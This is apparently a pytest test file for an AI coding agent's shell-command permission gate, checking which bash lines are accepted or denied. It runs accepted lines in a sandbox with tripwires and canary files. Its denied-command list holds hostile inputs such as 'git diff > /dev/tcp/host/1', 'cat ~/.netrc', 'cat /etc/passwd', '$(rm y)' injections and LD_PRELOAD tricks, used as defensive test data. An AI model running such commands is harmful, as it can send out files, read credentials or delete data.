"""Commands that are harmless beside allowed ones: a table, and accepted lines run by a real shell, which must write no file, run
no other program and show no denied file.
"""

from __future__ import annotations

import os
import shutil
import subprocess
from typing import TYPE_CHECKING

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from ralph.machine.files.trees import LocalDisk
from ralph.permissions import command_table
from ralph.permissions.bash_rules import FORMS, NOTES
from ralph.permissions.gate import CommandRules, RulesInForce
from ralph.permissions.judge import Permissions, RulePlaces
from ralph.permissions.rule import Effect, parse_rule
from ralph.permissions.shell import parse_line
from ralph.values.answer import ToolCall
from tests.permissions.worlds import denies, permissions, verdict
from tests.rows import every_row

if TYPE_CHECKING:
    from pathlib import Path

ALLOWED = ("Bash(git commit:*)", "Bash(git push:*)", "Bash(pytest:*)", "Bash(python3 tools/check.py)")
MESSAGE = '"$(cat <<\'EOF\'\nAdd x (a `b`, don\'t "c")\n\n$(rm y) \\n\nEOF\n)"'

HARMLESS = [
    "git status",
    "git diff HEAD",
    "git branch --show-current",
    "git log --oneline -10",
    "git status --short && git diff --stat && git --no-pager log -n 5 --format='%h %s'",
    "git rev-parse --abbrev-ref HEAD",
    "git ls-files src | wc -l",
    "git show HEAD:src/main.py | head -20",
    "git show --stat HEAD~1",
    "git log main..HEAD -- src",
    "git diff -U5 --cached src/main.py",
    f"git commit -m {MESSAGE}",
    f"git commit -m {MESSAGE} && git push",
    'git commit -m "$(cat <<"E"\nx\nE\n)"',
    "cd /w/project && git status",
    "cd /w/project && git commit -m x",
    "cd src && ls -la",
    "cd src && pytest -q",
    "(cd tests && cat test_main.py)",
    "pytest 2>&1 | tail -20",
    "pytest | grep -E 'FAILED|ERROR' | sort | uniq -c | head -n 5",
    'pytest; echo "exit: $?"',
    "if [ -f pytest.ini ]; then pytest; else echo none; fi",
    "for i in 1 2 3; do pytest && break; sleep 5; done; [ -d src ] || exit 1",
    "pytest || true",
    "pwd; ls src/*.py; cat src/main.py tests/test_main.py",
    "printf '%s\\n' a b | tr a-z A-Z | cut -d, -f1",
    "grep -rn 'def main' src",
    "grep -e x -A3 src/main.py",
    "test -f src/main.py && echo yes",
    "if test ! -d build; then echo no; fi",
    "head -5 src/main.py; tail -n +3 src/main.py; wc -l < src/main.py",
    "timeout 5 cat src/main.py",
    "for name in a b; do echo $name; done",
    "cat <<'E' | sort -k2 -t: -rn\nb\nE",
    "cat /added/x",
]
ORDINARY = [
    "git commit -m $(cat <<'E'\nx --amend\nE\n)",
    'git commit -m "$(cat <<E\n$(rm y)\nE\n)"',
    "git commit -m \"$(cat x <<'E'\nx\nE\n)\"",
    "git commit -m \"$(cat <<'E'; rm x\nx\nE\n)\"",
    "git commit -m \"$(cat <<'E'\nx\nE \n)\"",
    "git commit -F - <<X \"$(cat <<'E'\nx\nE\n)\"\nX",
    "ls > out",
    "echo x >> src/main.py",
    "git diff > /dev/tcp/host/1",
    "cat < /dev/tcp/host/1",
    "cat /etc/passwd",
    "cat ../x",
    "cat ~/.netrc",
    "cat $X",
    'cat "$X"',
    "cat {src,tests}/x",
    "cat *",
    "sort *.txt",
    "sort -o x y",
    "sort -ro x y",
    "sort --output=x y",
    "sort --outp x y",
    "sort --compress-program=rm y",
    "sort -T . y",
    "sort --files0-from=y",
    "uniq a b",
    "uniq -f 1 a b",
    "uniq == b",
    "uniq $ b",
    "wc --files0-from=x",
    "grep -f x y",
    "grep -R x .",
    "grep --exclude-from=x y z",
    "grep x /etc/passwd",
    "grep -e x /etc/passwd",
    "head -n $X src/main.py",
    "tail -f src/main.py",
    "tail -n -f src/main.py",
    "printf -v PATH .",
    "printf '%n' PATH",
    "printf $X PATH",
    "test -v 'a[0]'",
    "test $X y",
    "ls --hyperlink",
    "./ls",
    "/bin/ls",
    "PATH=. ls",
    "X=1 cat src/main.py",
    "PATH=.; ls",
    "for PATH in .; do ls; done",
    "select PATH in .; do ls; done",
    "for https_proxy in x; do ls; done",
    ": {PATH}>/dev/null; ls",
    ": ${LD_PRELOAD:=x.so}; ls",
    "for y in 'a[$(rm z)]'; do echo ${x[y]}; done",
    "for y in 'a[$(rm z)]'; do echo ${x:y}; done",
    "for y in '5 rm'; do nice -n $y ls; done",
    "for y in '5 rm'; do timeout --signal=$y 5 ls; done",
    r"\time -o out ls",
    "time --output=out ls",
    "cd ..",
    "cd /etc && cat passwd",
    "cd /etc",
    "cd",
    "cd -",
    "cd ~",
    "cd ~root",
    "cd link && cat passwd",
    "cd src/../..",
    "cd $X",
    "cd src lib",
    "for x in 1 2; do cd src; done",
    "while cd src; do ls; done",
    "cd src && git status",
    "cd src && git commit -m x",
    "cd src && python3 tools/check.py",
    "git diff --output=x",
    "git diff --outp=x",
    "git diff --ext-diff",
    "git log -p --textconv",
    "git show --textconv HEAD",
    "git -c core.fsmonitor=x status",
    "git -C src status",
    "git diff --no-index /etc/passwd x",
    "git diff /etc/passwd x",
    "git diff ../x y",
    "git log --help",
    "git status --help",
    "git log '--format=%G?'",
    "git log --show-signature",
    "git branch x",
    "git branch -D x",
    "git branch --show-current x",
    "git status -v",
    "git $X",
    "git",
    "env ls",
    "sudo ls",
    "sh -c ls",
    "xargs cat",
    "find . -name x",
    "sed -n 1p x",
    "exec ls",
    "ls() { rm x; }; ls",
    "alias ls=rm",
    "which ls",
]


def test_the_table_has_known_notes_and_meanings() -> None:
    for name, form in FORMS.items():
        assert form.notes <= set(NOTES), name
        assert set(form.options.values()) <= {"flag", "value", "content", "pattern", "recursive"}, name
        assert form.source, name
    assert {note for form in FORMS.values() for note in form.notes} == set(NOTES)
    assert not set(FORMS) & set(command_table.FORMS)


@every_row("command", HARMLESS)
def test_a_harmless_command_runs_beside_allowed_ones(command) -> None:
    told = verdict(permissions(allow=ALLOWED, added=["/added"]), "Bash", command=command)
    assert told.denied is None, told.denied
    assert denies(permissions(allow=["Edit"]), "Bash", command=command)  # not without any that is allowed


@every_row("command", ORDINARY)
def test_everything_else_is_an_ordinary_command(command) -> None:
    links = {"/w/project/link": "/etc", "/w/project/link/passwd": "/etc/passwd"}
    assert denies(permissions(allow=ALLOWED, links=links), "Bash", command=command)


@every_row(
    ("deny", "command", "is_allowed"),
    [
        ("Read(./.env)", "cat src/main.py", True),
        ("Read(./.env)", "cat .env", False),
        ("Read(./.env)", "cat src/../.env", False),
        ("Read(./.env)", "grep -r x .", False),
        ("Read(./.env)", "cat src/*.py", False),
        ("Read(./.env)", "cat < .env", False),
        ("Read(./.env)", "git diff HEAD", False),
        ("Read(./.env)", "git show HEAD", False),
        ("Read(./.env)", "git log -p", False),
        ("Read(./.env)", "git log -Upn", False),
        ("Read(./.env)", "git log --oneline -10", True),
        ("Read(./.env)", "git status", True),
        ("Read", "cat src/main.py", False),
        ("Read", "cat < src/main.py", False),
        ("Read", "git diff", False),
        ("Read", "git commit -m x | head -5", True),
        ("Bash(git diff:*)", "git diff", False),
        ("Bash(cat:*)", f"git commit -m {MESSAGE}", False),
        ("Bash(rm:*)", f"git commit -m {MESSAGE}", True),  # `$(rm y)` in it is a text
        ("Bash(rm:*)", "git commit -m \"$(cat <<'E'\nDo not rm x\nE\n)\"", True),
    ],
)
def test_rules_that_deny_come_first(deny, command, is_allowed) -> None:
    judge = permissions(deny=[deny], allow=ALLOWED)
    assert denies(judge, "Bash", command=command) is not is_allowed
    asks = permissions(ask=[deny], allow=ALLOWED)
    asked = verdict(asks, "Bash", command=command)
    assert (asked.denied is None and asked.asks is None) is is_allowed or "*" in command


@every_row(
    ("command", "is_allowed"),
    [
        ("read PATH", True),
        ("read PATH; ls", False),
        ("export X", True),
        ("export PATH; ls", False),
        ("printf '%n' PATH", True),
        ("printf '%n' PATH; ls", False),
        ("printf x; ls", True),
    ],
)
def test_nothing_is_harmless_beside_what_sets_variables(command, is_allowed) -> None:
    judge = permissions(allow=["Bash(read:*)", "Bash(export:*)", "Bash(printf:*)"])
    assert denies(judge, "Bash", command=command) is not is_allowed


def test_a_command_file_allows_nothing_that_the_rules_of_the_run_forbid_to_read() -> None:
    """The two are judged apart, each with its own rules."""
    rules = RulesInForce(permissions(deny=["Read(./.env)"]))
    rules.begin_task(CommandRules("x", rules=permissions(allow=["Bash(git commit:*)"])))
    verdicts = {
        line: rules.judge(ToolCall("id", "Bash", {"command": line})).denied is None
        for line in ("git status", "cat src/main.py", "git diff", "cat .env", "cat src/*.py", "wc -l src/m*")
    }
    assert [line for line, is_allowed in verdicts.items() if is_allowed] == ["git status", "cat src/main.py"]


# Lines that give the text of a here-document to the program `see`.
CONSTANTS = [
    f"see {MESSAGE}",
    f"see -m {MESSAGE} --amend",
    f"see x{MESSAGE}'y'",
    "see \"a $(cat <<'E'\n\n  b  \n\n\nE\n) c\"",
    'see "$(cat <<\'E\'\nE\n)" "$(cat <<"_1"\nE\n_1\n\n )"',
    'see "$(cat <<\'E\'\n E\nE \nEE\n"; touch x; "\n\\\nE\n)"',
    "see \"$(cat <<'E'\n\\\\ \\$x ${y} `z` !! \u00e9\nE\n)\"",
]


@every_row("line", CONSTANTS)
def test_the_text_of_a_constant_is_what_bash_gives_to_the_program(line, tmp_path) -> None:
    program = tmp_path / "see"
    program.write_text("#!/bin/sh\nprintf '%s\\0' \"$@\"\n")
    program.chmod(0o755)
    own = {"PATH": f"{tmp_path}:{os.environ['PATH']}", "LANG": "C.UTF-8"}
    ran = subprocess.run(["bash", "-c", line], env=own, check=True, capture_output=True)
    (judged,) = [one.words[1:] for one in parse_line(line).commands if one.name == "see"]
    assert [word.text for word in judged] == ran.stdout.decode().split("\0")[:-1]


# --- Accepted lines in a real shell

OTHERS = "touch rm tee env xargs sed awk gpg less man more python3 perl sh vi dd cp mv ln mkdir tac nl gh see".split()
SECRET, OUTSIDE = "canary-of-the-secret", "canary-of-outside"


class World:
    """A repository with files that must not be read, and programs that note that they ran."""

    def __init__(self, top: Path) -> None:
        self.top, self.cwd, self.home = top, top / "w", top / "home"
        self.ran = top / "ran"
        tripwire = f'#!/bin/sh\necho "$0" >> {self.ran}\n'
        for path, text in {
            "w/src/a.py": "def a():\n    return 1\n",
            "w/names": "secret.txt\n",
            "w/secret.txt": f"{SECRET}\n",
            "w/-o": "x\n",
            "outside/o": f"{OUTSIDE}\n",
            "home/.netrc": f"{OUTSIDE}\n",
            "w/src/HEAD": "ref: refs/heads/main\n",
            "w/src/config": f"[core]\n\trepositoryformatversion = 0\n\tworktree = ..\n\tfsmonitor = {top}/fs\n",
            "w/src/objects/x": "",
            "w/src/refs/x": "",
        }.items():
            (top / path).parent.mkdir(parents=True, exist_ok=True)
            (top / path).write_text(text)
        for path in ("fs", "w/ls", "w/0/ls", "w/10/ls", "w/src/cat", *(f"bin/{name}" for name in OTHERS)):
            (top / path).parent.mkdir(parents=True, exist_ok=True)
            (top / path).write_text(tripwire)
            (top / path).chmod(0o755)
        (self.cwd / "out").symlink_to("../outside")
        for name in "cat head tail wc cut tr grep sort uniq ls git bash timeout nice".split():
            (top / "bin" / name).symlink_to(shutil.which(name) or name)
        self.environment = {
            "PATH": str(top / "bin"),
            "HOME": str(self.home),
            "GIT_CONFIG_NOSYSTEM": "1",
            "GIT_OPTIONAL_LOCKS": "0",
            **dict.fromkeys(("GIT_AUTHOR_NAME", "GIT_COMMITTER_NAME", "EMAIL"), "me"),
        }
        self.run("git init -q -b main; git add .; git commit -qm one", is_setup=True)
        (self.cwd / "src/a.py").write_text("def a():\n    return 2\n")
        (self.cwd / "secret.txt").write_text(f"{SECRET} again\n")
        self.tree = self._tree()

    def run(self, line: str, *, is_setup: bool = False) -> str:
        """The output of a line. Raises if it changed a file or ran another program."""
        ran = subprocess.run(
            ["bash", "-c", line],
            cwd=self.cwd,
            env=self.environment,
            stdin=subprocess.DEVNULL,
            stdout=subprocess.PIPE,
            stderr=subprocess.STDOUT,
            check=is_setup,
        )
        if not is_setup:
            assert self._tree() == self.tree, line
        return ran.stdout.decode("utf-8", "replace")

    def judge(self, *deny: str) -> Permissions:
        rules = [parse_rule(text, Effect.DENY, "test") for text in deny]
        allowed = [parse_rule(text, Effect.ALLOW, "test") for text in ALLOWED[2:]]
        return Permissions(rules, allowed, RulePlaces(str(self.cwd), str(self.home), LocalDisk()))

    def _tree(self) -> dict[str, bytes]:
        files = (path for path in self.top.rglob("*") if not path.is_dir())
        return {str(path): path.read_bytes() for path in files}


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> World:
    return World(tmp_path_factory.mktemp("harmless"))


def accepts(judge: Permissions, line: str) -> bool:
    return judge.judge(ToolCall("id", "Bash", {"command": line})).denied is None


@every_row(
    "line",
    [
        "sort -o made names",
        "uniq names made",
        "for PATH in 0; do ls; done",
        "printf '%n' PATH; ls",
        ": {PATH}>/dev/null; ls",
        "cd src && git status",
        "for y in 'a[$(touch made)]'; do echo ${x[y]}; done",
        "for y in '5 touch'; do nice -n $y made; done",
    ],
)
def test_what_an_ordinary_command_does_is_noticed(line, tmp_path) -> None:
    world = World(tmp_path / str(len(list(tmp_path.iterdir()))))
    assert not accepts(world.judge(), line)
    with pytest.raises(AssertionError):
        world.run(line)


def test_no_option_of_the_table_writes_a_file_or_runs_a_program(world) -> None:
    judge = world.judge()
    accepted = [
        line
        for name, form in FORMS.items()
        for option in ("", *form.options)
        for rest in ("", "src", "names made", "1 names made")
        if accepts(judge, line := f"{name} {option} {rest}")
    ]
    assert all(any(line.startswith(name) for line in accepted) for name in FORMS)
    for at in range(0, len(accepted), 100):
        world.run("\n".join(f"( {line} ) < /dev/null" for line in accepted[at : at + 100]))


WORDS = st.sampled_from(
    """
    -o --output=made -omade made -r -R -n -n5 -5 5 -v -p -f -c -e -k1 -t: -d, -f1 -i -l -L -T. -S -- - . .. ./src src src/a.py
    names secret.txt secr*t.txt s* src/* * out out/o ../outside/o ~/.netrc ~ HEAD HEAD~0 HEAD:secret.txt HEAD^ --stat --help
    --no-index --ext-diff --textconv --cached --files0-from=names --compress-program=touch --exclude-from=secret.txt PATH
    %s %n '%n' '%s\\n' "$y" $y ${x[y]} ${x:y} ${y:=.} $(touch\tmade) `touch\tmade` 'a[$(touch\tmade)]' {PATH}>/dev/null
    {PATH}</dev/null >made >>made 2>&1 >/dev/null >&2 <secret.txt <names <out/o <<<x {a,b} [s]ecret.txt = -eq a 0 1 PATH=.
    touch ls cat -x /etc/passwd --format=%h --format=%G? --color=always -c\tcore.fsmonitor=../fs -C\tsrc
    """.split()
)
PLAIN = st.sampled_from("-n -c -i -l -1 -r src src/a.py names HEAD 1 x out/../names --stat --oneline".split())
NAMES = st.sampled_from([*FORMS, *FORMS, *FORMS]) | st.sampled_from(
    [*OTHERS, *"command \\time exec eval ./ls PATH=.\tls read export set pytest [[ cd\tsrc".split(" ")]
)
COMMANDS = st.builds(
    lambda before, name, words: " ".join((*before, name, *words)).replace("\t", " "),
    st.sampled_from([(), (), (), ("nice",), ("timeout 5",), ("!",), ("cd src &&",)]),
    NAMES,
    st.lists(PLAIN, max_size=2) | st.lists(PLAIN | WORDS, max_size=3) | st.just([MESSAGE]),
)
LINES = st.recursive(
    COMMANDS,
    lambda inner: (
        st.builds("{} {} {}".format, inner, st.sampled_from(["&&", "||", ";", "|", "\n"]), inner)
        | st.builds(
            "for {} in {}; do {}; done".format,
            st.sampled_from("xyP"),
            WORDS.map(lambda one: one.split("\t")[0]),
            inner,
        )
        | st.builds("for PATH in .; do {}; done".format, inner)
        | st.builds("if {}; then {}; fi".format, inner, inner)
        | st.builds("( {} )".format, inner)
        | st.builds("{{ {}; }}".format, inner)
    ),
    max_leaves=4,
)


@settings(max_examples=200, deadline=None, suppress_health_check=list(HealthCheck))
@given(line=LINES, is_denied=st.booleans())
def test_no_accepted_line_writes_a_file_runs_a_program_or_shows_what_is_denied(
    world, line, is_denied
) -> None:
    if accepts(world.judge(*(["Read(./secret.txt)"] if is_denied else [])), line):
        shown = world.run(line)
        assert OUTSIDE not in shown
        assert not (is_denied and SECRET in shown)
